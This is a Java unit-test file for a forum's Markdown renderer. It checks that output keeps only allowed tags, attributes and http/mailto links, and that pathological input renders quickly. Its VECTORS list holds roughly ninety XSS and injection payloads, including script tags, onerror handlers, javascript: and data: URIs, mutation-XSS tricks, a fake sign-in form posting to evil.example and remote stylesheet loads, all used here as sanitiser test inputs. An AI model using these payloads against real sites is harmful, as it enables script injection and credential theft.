package kith.page;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Duration;
import java.util.Locale;
import java.util.Set;
import org.jsoup.Jsoup;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;
import org.junit.jupiter.params.provider.ValueSource;

public class MarkdownTest {
    private static final Set<String> ELEMENTS = Set.of(
            "html",
            "head",
            "body",
            "p",
            "br",
            "em",
            "strong",
            "del",
            "blockquote",
            "ul",
            "ol",
            "li",
            "pre",
            "code",
            "hr",
            "h3",
            "h4",
            "h5",
            "h6",
            "a");

    /** Known ways to smuggle a script, a style or a request into a page, from OWASP's and PortSwigger's sheets and from the CVEs of other forums. */
    public static final java.util.List<String> VECTORS = java.util.List.of(
            "<script>alert(1)</script>",
            "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<script\n>alert(1)</script\n>",
            "<script/src=data:,alert(1)>",
            "<img src=x onerror=alert(1)>",
            "<img src=\"javascript:alert(1)\">",
            "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
            "<img src=x:alert(alt) onerror=eval(src) alt=1>",
            "<img/src/onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
            "<svg><style><img src=x onerror=alert(1)></style></svg>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
            "<math href=\"javascript:alert(1)\">x</math>",
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            "<body onload=alert(1)>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
            "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
            "<embed src=javascript:alert(1)>",
            "<base href=https://evil.example/>",
            "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
            "<link rel=stylesheet href=https://evil.example/x.css>",
            "<style>@import 'https://evil.example/x.css';</style>",
            "<div style=\"background:url(https://evil.example/x)\">x</div>",
            "<p style=\"position:fixed;inset:0\">x</p>",
            "<input autofocus onfocus=alert(1)>",
            "<select onfocus=alert(1) autofocus>",
            "<textarea autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<video><source onerror=alert(1)></video>",
            "<audio src=x onerror=alert(1)>",
            "<marquee onstart=alert(1)>",
            "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
            "<a href=\"java&#x09;script:alert(1)\">x</a>",
            "<a href=\" &#14; javascript:alert(1)\">x</a>",
            "<a href=# id=csrf name=body class=card>x</a>",
            "<template><script>alert(1)</script></template>",
            "<xmp><img src=x onerror=alert(1)></xmp>",
            "<plaintext><script>alert(1)",
            "<!--><script>alert(1)</script>-->",
            "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
            "<![CDATA[<script>alert(1)</script>]]>",
            "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
            "<!DOCTYPE html><script>alert(1)</script>",
            "[x](javascript:alert(1))",
            "[x](JaVaScRiPt:alert(1))",
            "[x](javascript&colon;alert(1))",
            "[x](javascript&#58;alert(1))",
            "[x](&#x6A;avascript:alert(1))",
            "[x](java\\\nscript:alert(1))",
            "[x](<java\tscript:alert(1)>)",
            "[x]( javascript:alert(1))",
            "[x](vbscript:msgbox(1))",
            "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
            "[x](file:///etc/passwd)",
            "[x](blob:https://evil.example/1)",
            "[x](//evil.example/x)",
            "[x](\\\\evil.example\\x)",
            "[x](/account/erasure)",
            "[x](https://evil.example \"onmouseover=alert(1)\")",
            "[x](https://evil.example/\"onmouseover=alert(1)//)",
            "[x](https://evil.example/'><script>alert(1)</script>)",
            "[x][1]\n\n[1]: javascript:alert(1)",
            "[x]: https://evil.example \"><script>alert(1)</script>\"\n\n[x]",
            "<javascript:alert(1)>",
            "<https://evil.example/\"onclick=alert(1)>",
            "![x](https://evil.example/pixel.gif)",
            "![x](javascript:alert(1))",
            "![<img src=x onerror=alert(1)>](https://evil.example/x)",
            "![x](https://evil.example/x\"onerror=\"alert(1))",
            "[![x](https://evil.example/pixel.gif)](javascript:alert(1))",
            "`<script>alert(1)</script>`",
            "```html\" onmouseover=\"alert(1)\n<script>alert(1)</script>\n```",
            "    <script>alert(1)</script>",
            "# <img src=x onerror=alert(1)>",
            "> <script>alert(1)</script>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\u0000<script>alert(1)</script>",
            "<\u0000script>alert(1)</script>",
            "{{constructor.constructor('alert(1)')()}}",
            "${alert(1)} <%= 1 %> #{1}");

    @ParameterizedTest
    @FieldSource("VECTORS")
    void nothingThatSomebodyWritesRunsOrLoadsOrPretends(String vector) {
        var page = Jsoup.parse(Markdown.render(vector).html());
        for (var element :
                page.getAllElements().asList().subList(1, page.getAllElements().size())) {
            assertThat(ELEMENTS).contains(element.normalName());
            for (var attribute : element.attributes()) {
                assertThat(Set.of("href", "rel", "start")).contains(attribute.getKey());
            }
            if (element.hasAttr("href")) {
                assertThat(element.attr("href").toLowerCase(Locale.ROOT)).matches("(?:https?://|mailto:).*");
                assertThat(element.attr("rel")).isEqualTo("nofollow noopener noreferrer");
            }
        }
    }

    @Test
    void theCorpusIsLarge() {
        assertThat(VECTORS).hasSizeGreaterThanOrEqualTo(60).doesNotHaveDuplicates();
    }

    @Test
    void marksBecomeHtml() {
        assertThat(html("**Bold** and *soft* and ~~gone~~"))
                .isEqualTo("<p><strong>Bold</strong> and <em>soft</em> and <del>gone</del></p>");
        assertThat(html("one\ntwo")).isEqualTo("<p>one<br />\ntwo</p>");
        assertThat(html("3. three")).contains("<ol start=\"3\">");
    }

    @Test
    void typedTagsAreShownAsTyped() {
        assertThat(text("my CRP is <5 and <b>I</b> am glad")).isEqualTo("my CRP is <5 and <b>I</b> am glad");
    }

    @Test
    void headingsStayBelowThoseOfThePage() {
        assertThat(html("# One")).isEqualTo("<h3>One</h3>");
        assertThat(html("###### Six")).isEqualTo("<h6>Six</h6>");
    }

    @Test
    void aLinkSaysWhereItLeads() {
        assertThat(text("see [my bank](https://evil.example/x)")).isEqualTo("see my bank (evil.example)");
        assertThat(text("[https://bank.example](https://evil.example)"))
                .isEqualTo("https://bank.example (evil.example)");
        assertThat(text("https://example.org/page")).isEqualTo("https://example.org/page");
        assertThat(text("[bank](https://bank.example@evil.example)")).isEqualTo("bank");
        assertThat(text("ana@example.org")).isEqualTo("ana@example.org");
    }

    @Test
    void picturesFromElsewhereBecomeLinks() {
        assertThat(html("![my knee](https://pictures.example/knee.jpg)"))
                .startsWith("<p><a href=\"https://pictures.example/knee.jpg\"")
                .doesNotContain("<img")
                .contains("my knee</a> (pictures.example)");
    }

    @ParameterizedTest
    @ValueSource(strings = {">", "- ", "*_", "[", "![", "(", "`", "<", "~~", "\\", "[a](", "&", "1. ", "<!--", "_"})
    void noTextIsTooTwistedToRender(String twist) {
        var long_ = twist.repeat(20_000 / twist.length());
        Assertions.assertTimeoutPreemptively(Duration.ofSeconds(5), () -> Markdown.render(long_ + "a"));
    }

    @Test
    void openingsAreCutBetweenWords() {
        assertThat(Markdown.render("> quoted\n\n**We were away** and I left\nthe packet at home")
                        .opening(34))
                .isEqualTo("«quoted» We were away and I left…");
    }

    private static String html(String source) {
        return Markdown.render(source).html().strip();
    }

    private static String text(String source) {
        return Jsoup.parse(Markdown.render(source).html()).text();
    }
}
